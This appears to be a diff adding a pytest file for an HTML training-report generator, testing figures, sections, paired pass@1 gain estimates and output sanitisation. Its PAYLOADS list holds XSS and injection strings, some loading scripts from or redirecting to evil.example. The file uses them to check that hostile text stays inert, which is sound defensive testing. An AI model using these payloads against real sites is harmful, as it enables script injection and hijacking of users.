@@ -1,0 +1,197 @@
+"""The report: right numbers first, whole without a network, and dead to hostile text."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import re
+import shutil
+from collections.abc import Iterator
+from pathlib import Path
+from xml.etree.ElementTree import Element
+
+import html5lib
+import pytest
+from fabricated import fabricate_run
+
+from ground.errors import DataError
+from packtrain import figures
+from packtrain.charts import Span
+from packtrain.report import page, write_report
+from packtrain.samples import comparisons
+from packtrain.verdict import Gain, gain_between, gains, headline, paired_change
+from rollout.passk import Estimate
+
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "</p><script src=//evil.example/x.js></script>",
+    "<img src=x onerror=alert(1)>",
+    '"><svg onload=alert(1)>',
+    "</style><style>*{background:url(//evil.example)}</style>",
+    "</title><script>alert(1)</script>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "{{ 7 * 7 }}{% import os %}",
+    "<!--><script>alert(1)</script>-->",
+    "<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=x'>",
+    "<form action=//evil.example><button>go</button></form>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example><link rel=stylesheet href=x>",
+    "\x1b]0;title\x07\x1b[31mred\u202etxt.exe",
+    "<object data=x><embed src=x>",
+    "<details open ontoggle=alert(1)>",
+    "]]><script>alert(1)</script><![CDATA[",
+)
+PASSIVE = re.findall(
+    r"\w+",
+    "html head body main header footer meta title style h1 h2 h3 p ul li div span b table tbody tr "
+    "th td figure figcaption details summary pre svg line rect text circle polyline",
+)
+
+
+@pytest.fixture(scope="module")
+def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A whole fabricated run."""
+    return fabricate_run(tmp_path_factory.mktemp("runs") / "made")
+
+
+def nodes(html: str) -> Iterator[Element]:
+    """Every element of a page as a browser would parse it."""
+    tree = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)
+    return (element for element in tree.iter() if isinstance(element.tag, str))
+
+
+def active_nodes(html: str) -> list[str]:
+    """Elements and attributes that could run, load, send or style anything."""
+    found = []
+    for element in nodes(html):
+        tag = element.tag.rsplit("}", 1)[-1]
+        if tag not in PASSIVE:
+            found.append(tag)
+        names = [name for name in element.attrib if name.startswith("on") or name == "style"]
+        found += [f"{tag}.{name}" for name in names]
+        found += [f"{tag}.{name}" for name in ("href", "src", "action") if name in element.attrib]
+    return found
+
+
+def test_hostile_text_anywhere_stays_text(tmp_path: Path) -> None:
+    payload = "\n".join(PAYLOADS)
+    html = page(fabricate_run(tmp_path / "made", text=payload, num_prompts=12))
+    assert active_nodes(html) == []
+    elements = list(nodes(html))
+    assert sum(element.tag == "style" for element in elements) == 1
+    assert sum(element.tag == "meta" for element in elements) == 4
+    shown = "".join("".join(element.itertext()) for element in elements if element.tag == "body")
+    assert "<script>alert(1)</script>" in shown
+    assert "{{ 7 * 7 }}" in shown
+    assert not set("\x1b\x07\u202e") & set(html)
+
+
+def test_the_check_for_active_nodes_sees_them() -> None:
+    seen = active_nodes("<p onclick=x>a</p><script>1</script><a href=x>b</a><p style=x>c</p>")
+    assert seen == ["p.onclick", "script", "a", "a.href", "p.style"]
+
+
+def test_the_policy_names_exactly_the_style_of_the_page(run: Path) -> None:
+    html = page(run)
+    style = html.split("<style>")[1].split("</style>")[0]
+    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
+    policy = html.split('Content-Security-Policy" content="')[1].split('"')[0]
+    assert policy.replace("&#39;", "'").startswith(
+        f"default-src 'none'; style-src 'sha256-{digest}'"
+    )
+
+
+def test_the_page_loads_nothing(run: Path) -> None:
+    html = page(run)
+    assert not re.search(r"https?://|url\(|@import", html.replace("http://www.w3.org", ""))
+
+
+def test_the_verdict_comes_first_and_has_the_numbers_of_the_files(run: Path) -> None:
+    html = page(run)
+    assert html.index(headline(run)) < html.index("<h2>")
+    for gain in gains(run):
+        assert gain.sentence in html.replace("&#39;", "'")
+
+
+def test_every_section_is_there(run: Path) -> None:
+    html = page(run)
+    for heading in (
+        *("Accuracy by model", "pass@1 by capability", "pass@1 by difficulty", "Entropy by model"),
+        *("SFT loss", "RL: reward and pass rate", "RL: effective sample size", "Filter funnel"),
+        *("Trainer and rollout workers", "What pruning kept", "The same prompts, before and after"),
+        *("Ledger", "Environment", "Recipe"),
+    ):
+        assert heading in html, heading
+
+
+def test_a_gain_is_paired_by_prompt() -> None:
+    assert paired_change([0.5, 0.5, 0.5]) == Estimate(0.5, 0.5, 0.5)
+    change = paired_change([1.0, 0.0] * 50)
+    assert change.mean == 0.5
+    assert 0.38 < change.low < 0.43 and 0.57 < change.high < 0.62
+
+
+def test_a_pairing_is_narrower_than_the_spread_of_the_prompts(run: Path) -> None:
+    gain = gain_between(run, "rl", "dpo")
+    assert gain is not None and gain.num_prompts == 120
+    assert gain.change.high - gain.change.low < 0.03
+
+
+def test_a_gain_that_may_be_nothing_is_called_so() -> None:
+    unclear = Gain("rl", "dpo", Estimate(-0.002, -0.011, 0.007), 512)
+    assert unclear.sentence == (
+        "DPO made no clear difference to pass@1: -0.2 points "
+        "(95% interval -1.1 to +0.7, 512 prompts)."
+    )
+    clear = Gain("sft", "rl", Estimate(0.314, 0.28, 0.349), 512)
+    assert clear.sentence.startswith("RL added 31.4 points of pass@1 over SFT (95% interval +28.0")
+
+
+def test_the_funnel_sums_to_what_was_drawn(run: Path) -> None:
+    counts = figures.ledger_counts(run)
+    assert counts == {
+        ("trained", ""): 240,
+        ("filtered", "all-0"): 90,
+        ("filtered", "all-1"): 60,
+        ("withdrawn", "end"): 10,
+    }
+
+
+def test_examples_show_gains_of_every_capability_and_the_largest_loss(run: Path) -> None:
+    shown = comparisons(run)
+    assert {each.capability for each in shown} == {"arithmetic", "counting", "logic", "strings"}
+    assert [each.change for each in shown] == sorted((e.change for e in shown), reverse=True)
+    assert [answer.model for answer in shown[0].answers] == ["base", "SFT", "RL", "DPO"]
+
+
+def test_overlapping_work_of_a_role_becomes_one_block() -> None:
+    spans = [
+        Span("r/0", "rollout", 0, 2),
+        Span("r/0", "rollout", 1, 3),
+        Span("r/0", "rollout", 9, 10),
+    ]
+    assert figures.fold(spans, 0.5) == [
+        Span("r/0", "rollout", 0, 3),
+        Span("r/0", "rollout", 9, 10),
+    ]
+
+
+def test_an_unfinished_run_has_a_report_too(run: Path, tmp_path: Path) -> None:
+    part = Path(shutil.copytree(run, tmp_path / "part"))
+    for name in ("rl", "dpo", "sft/evaluation", "prune"):
+        shutil.rmtree(part / name)
+    (part / "base" / "evaluation" / "prompts.parquet").write_bytes(b"PAR1 torn")
+    html = page(part)
+    assert "pass@1 of the base model" in html
+    assert "Filter funnel" not in html and "What pruning kept" not in html
+
+
+def test_the_report_is_a_file_of_the_run(run: Path, tmp_path: Path) -> None:
+    assert write_report(run) == run / "report.html"
+    assert write_report(run, tmp_path / "r.html").stat().st_size < 2_000_000
+
+
+def test_a_folder_that_is_no_run_is_refused(tmp_path: Path) -> None:
+    with pytest.raises(DataError, match="not a run directory"):
+        write_report(tmp_path)
